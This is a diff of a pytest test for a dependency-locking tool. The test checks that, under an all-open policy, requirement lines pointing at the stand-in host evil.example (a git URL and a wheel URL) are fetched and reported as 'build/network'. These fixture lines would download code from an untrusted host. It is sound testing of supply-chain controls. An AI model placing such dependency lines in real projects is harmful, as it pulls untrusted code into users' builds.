@@ -310,19 +310,19 @@ def test_what_no_policy_opens(
 
 
 @pytest.mark.parametrize(
-    ("line", "ends"),
+    "line",
     [
-        (f"x @ git+https://evil.example/x@{'0' * 40}", "build/vcs"),
-        (f"x @ https://evil.example/x-1.0-py3-none-any.whl#sha256={'0' * 64}", "build/network"),
+        f"x @ git+https://evil.example/x@{'0' * 40}",
+        f"x @ https://evil.example/x-1.0-py3-none-any.whl#sha256={'0' * 64}",
     ],
 )
 def test_what_the_policy_opens_is_fetched_and_nothing_else_is_told(
-    line: str, ends: str, host: Host, everything_open: str, capsys: pytest.CaptureFixture[str]
+    line: str, host: Host, everything_open: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
     plant(host)
     (host.model / "requirements.txt").write_text(f"{line}\n")
     code, out = call(capsys, "lock", str(host.model), "--policy", everything_open)
-    assert (code, out["error"]["code"]) == (2, ends)
+    assert (code, out["error"]["code"]) == (2, "build/network")
     assert host.foreign.paths == {"evil.example:443"}
     host.foreign.clear()
 
